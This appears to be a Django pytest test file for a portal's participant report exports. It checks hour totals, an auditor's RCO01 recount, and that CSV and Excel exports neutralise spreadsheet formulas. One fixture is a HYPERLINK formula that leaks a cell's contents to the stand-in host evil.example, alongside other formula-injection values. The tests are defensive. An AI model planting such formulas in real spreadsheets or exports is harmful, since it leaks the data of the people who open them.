"""What a coordinator or an auditor does with the exported files: adds up the hours, recounts
RCO01 from the rows alone, and opens them in a spreadsheet without running anyone's formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from events.models import Registration
from reports.models import ReportExport
from tests.factories import (
    EventFactory,
    OrganisationFactory,
    ProjectFactory,
    RegistrationFactory,
    UserFactory,
)

from .helpers import coordinator_of, past, scope

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


@pytest.fixture
def eager_tasks(monkeypatch):
    """Run Celery tasks in the test process, also when REDIS_URL points at a real broker."""
    from cluster_portal.celery import app

    monkeypatch.setitem(app.conf, "task_always_eager", True)


def csv_rows(client, query) -> list[dict]:
    response = client.get("/en/reports/participants.csv", query)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def sheet_rows(content: bytes, sheet: str = "Participants") -> list[dict]:
    """The sheet's rows as {header: cell}, the cells themselves (to see formulas)."""
    rows = list(load_workbook(io.BytesIO(content))[sheet].iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def report_summary(client, query):
    response = client.get("/en/reports/", query)
    assert response.status_code == 200
    return response.context["summary"]


@pytest.fixture
def mixed_project():
    """One event of 3 hours: three organisations attended (two companies, a university), one
    company cancelled, one is on the waiting list, one did not come, one was never marked."""
    project = ProjectFactory()
    event = EventFactory(projects=[project], support_hours=Decimal(3), **past(2021, 3))
    later = EventFactory(projects=[project], support_hours=Decimal("1.5"), **past(2021, 4))
    cellvia = OrganisationFactory(name="Cellvia AB", organisation_number="5560360793")
    sensorer = OrganisationFactory(name="Nordkvist Sensorer AB", organisation_number="5566778899")
    university = OrganisationFactory(
        name="Uppsala universitet",
        organisation_number="2021002932",
        kind="university",
    )
    for organisation in (cellvia, sensorer, university):
        RegistrationFactory(event=event, organisation=organisation, attended=True)
    # The same company again at a second event: one enterprise, two supports.
    RegistrationFactory(event=later, organisation=cellvia, attended=True)
    RegistrationFactory(
        event=event,
        organisation=OrganisationFactory(organisation_number="5569999993"),
        status=Registration.Status.CANCELLED,
    )
    RegistrationFactory(event=event, status=Registration.Status.WAITLISTED)
    RegistrationFactory(event=event, attended=False)
    RegistrationFactory(event=event, attended=None)
    return project


def test_the_hours_column_adds_up_to_the_reports_hours(client, mixed_project):
    client.force_login(coordinator_of(mixed_project))
    query = {"scope": scope("project", mixed_project)}

    rows = csv_rows(client, query)

    assert len(rows) == 8
    total = sum(Decimal(row["Hours of support"] or 0) for row in rows)
    assert total == report_summary(client, query).support_hours == Decimal("10.5")
    not_support = [row for row in rows if row["Attended"] != "yes"]
    assert len(not_support) == 4
    assert {row["Hours of support"] for row in not_support} == {""}


def test_an_auditor_recounts_rco01_from_the_file_alone(client, mixed_project):
    client.force_login(coordinator_of(mixed_project))
    query = {"scope": scope("project", mixed_project)}

    rows = csv_rows(client, query)

    assert all(row["Kind of organisation"] for row in rows)
    supported_enterprises = {
        row["Organisation number"]
        for row in rows
        if row["Kind of organisation"] == "Company"
        and row["Registration status"] == "Confirmed"
        and row["Attended"] == "yes"
    }
    assert supported_enterprises == {"556036-0793", "556677-8899"}
    assert len(supported_enterprises) == report_summary(client, query).rco01
    assert {row["Kind of organisation"] for row in rows} == {
        "Company",
        "University or research institute",
    }
    xlsx = client.get("/en/reports/participants.xlsx", query)
    cells = sheet_rows(b"".join(xlsx.streaming_content))
    assert [row["Kind of organisation"].value for row in cells] == [
        row["Kind of organisation"] for row in rows
    ]
    assert sum(row["Hours of support"].value or 0 for row in cells) == Decimal("10.5")


@pytest.fixture
def hostile_project():
    project = ProjectFactory(name="=1+2")
    event = EventFactory(title="-2+3 workshop", projects=[project], **past(2021, 3))
    company = OrganisationFactory(
        name=HOSTILE_NAME, municipality="=1+1", sector="@SUM(1+1)", organisation_number=""
    )
    RegistrationFactory(
        event=event,
        organisation=company,
        user=UserFactory(first_name="+46 70", last_name="Test", email="\tx@example.org"),
        attended=True,
    )
    return project, event, company


EXPECTED_CELLS = {
    "Event": "'-2+3 workshop",
    "Participant": "'+46 70 Test",
    "Email": "'\tx@example.org",
    "Organisation": "'" + HOSTILE_NAME,
    "Municipality": "'=1+1",
    "Sector": "'@SUM(1+1)",
}


def test_the_csv_file_runs_no_formula(client, hostile_project):
    project, _event, _company = hostile_project
    client.force_login(coordinator_of(project))

    (row,) = csv_rows(client, {"scope": scope("project", project)})

    assert {header: row[header] for header in EXPECTED_CELLS} == EXPECTED_CELLS


def test_the_excel_file_runs_no_formula(client, hostile_project):
    project, _event, _company = hostile_project
    client.force_login(coordinator_of(project))

    response = client.get("/en/reports/participants.xlsx", {"scope": scope("project", project)})

    content = b"".join(response.streaming_content)
    (row,) = sheet_rows(content)
    assert {header: row[header].value for header in EXPECTED_CELLS} == EXPECTED_CELLS
    assert {cell.data_type for cell in row.values() if cell.value is not None} <= {"s", "n", "d"}
    summary = load_workbook(io.BytesIO(content))["Summary"]
    assert summary["B1"].value == "'=1+2"
    assert summary["B1"].data_type == "s"


def test_the_prepared_excel_file_runs_no_formula(
    client, settings, hostile_project, django_capture_on_commit_callbacks, eager_tasks
):
    settings.REPORTS_ASYNC_THRESHOLD = 0
    project, _event, _company = hostile_project
    client.force_login(coordinator_of(project))

    with django_capture_on_commit_callbacks(execute=True):
        client.post("/en/reports/exports/", {"scope": scope("project", project)})

    export = ReportExport.objects.get()
    download = client.get(f"/en/reports/exports/{export.pk}/download/")
    (row,) = sheet_rows(b"".join(download.streaming_content))
    assert {header: row[header].value for header in EXPECTED_CELLS} == EXPECTED_CELLS
    assert all(cell.data_type != "f" for cell in row.values())


def test_the_admins_participant_csv_runs_no_formula(client, superuser, hostile_project):
    _project, event, _company = hostile_project
    client.force_login(superuser)

    response = client.get(reverse("admin:events_event_participants_csv", args=[event.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[1][:3] == ["'+46 70 Test", "'\tx@example.org", "'" + HOSTILE_NAME]


@pytest.fixture
def awkward_list():
    """Values every CSV writer can get wrong, each written down here by hand."""
    project = ProjectFactory()
    night = datetime.datetime(2021, 3, 28, 0, 30, tzinfo=timezone.get_current_timezone())
    event = EventFactory(
        title='Open lab, "the day"\nafter',
        projects=[project],
        support_hours=Decimal("6.5"),
        starts_at=night,
        ends_at=night + datetime.timedelta(hours=4),
    )
    company = OrganisationFactory(
        name="Åkes Café, =2", organisation_number="5560360793", sector="Mat\r\noch dryck"
    )
    RegistrationFactory(
        event=event,
        user=UserFactory(first_name="Åsa", last_name='Öberg, "Doc"', email="asa@x.example"),
        organisation=company,
        attended=True,
        checked_in_at=night + datetime.timedelta(minutes=5, seconds=7, microseconds=999_999),
    )
    RegistrationFactory(
        event=event,
        user=UserFactory(first_name="", last_name="", email="=a@x.example"),
        organisation=None,
        status=Registration.Status.WAITLISTED,
    )
    return project


EXPECTED_BYTES = (
    "\ufeffEvent,Date,Hours of support,Participant,Email,Organisation,Organisation number,"
    "Kind of organisation,County,Municipality,Size class at the time,Sector,"
    "Registration status,Attended,Checked in at\r\n"
    '"Open lab, ""the day""\nafter",2021-03-28,6.50,"Åsa Öberg, ""Doc""",asa@x.example,'
    '"Åkes Café, =2",556036-0793,Company,Uppsala,Uppsala,Unknown,"Mat\r\noch dryck",'
    "Confirmed,yes,2021-03-28 00:35:07\r\n"
    '"Open lab, ""the day""\nafter",2021-03-28,, ,\'=a@x.example,,,,,,,,'
    "On the waiting list,,\r\n"
).encode()


def test_sqlite_and_postgresql_write_these_bytes(client, awkward_list):
    """Run on both databases (DATABASE_URL for PostgreSQL): each must write exactly these."""
    client.force_login(coordinator_of(awkward_list))

    response = client.get("/en/reports/participants.csv", {"scope": scope("project", awkward_list)})

    assert b"".join(response.streaming_content) == EXPECTED_BYTES
